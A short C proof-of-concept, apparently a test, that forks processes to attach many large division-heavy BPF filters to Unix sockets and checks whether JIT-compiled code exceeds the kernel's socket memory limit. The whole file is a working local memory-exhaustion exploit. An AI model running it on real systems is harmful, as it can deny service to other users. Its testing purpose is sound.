// SO_ATTACH_FILTER is anybody's right. A division becomes some 24 bytes of code, so that a filter of 16 kB is one of 48 kB more.
// More than 20 kB the kernel takes of nobody: net.core.optmem_max before Linux 6.8.
#define _GNU_SOURCE
#include <errno.h>
#include <linux/filter.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

int main(void) {
    alarm(25);
    static struct sock_filter code[2000];
    for (int i = 0; i < 1999; i++) code[i] = (struct sock_filter)BPF_STMT(BPF_ALU | BPF_DIV | BPF_K, 3 + i % 7);
    code[1999] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, 0xffff);
    struct sock_fprog program = {2000, code};
    int results[2];
    if (pipe(results) != 0) return 1;
    for (int child = 0; child < 6; child++) {
        if (fork() != 0) continue;
        int made = 0;
        while (made < 100) {
            int file = socket(AF_UNIX, SOCK_DGRAM, 0);
            if (file < 0 || setsockopt(file, SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof program) != 0) break;
            made++;
        }
        if (made < 100) dprintf(1, "refused: %s setsockopt after %d\n", strerrorname_np(errno), made);
        (void)!write(results[1], &made, sizeof made);
        usleep(700000);
        _exit(0);
    }
    close(results[1]);
    int all = 0, one;
    while (read(results[0], &one, sizeof one) == sizeof one) all += one;
    // 600 of them are 19 MB of filters and 28 MB of code, with a limit of 24 MB.
    if (all >= 600) printf("BREACH: %d filters, 28 MB of machine code beside the limit\n", all);
    else printf("%d filters\n", all);
    return 0;
}
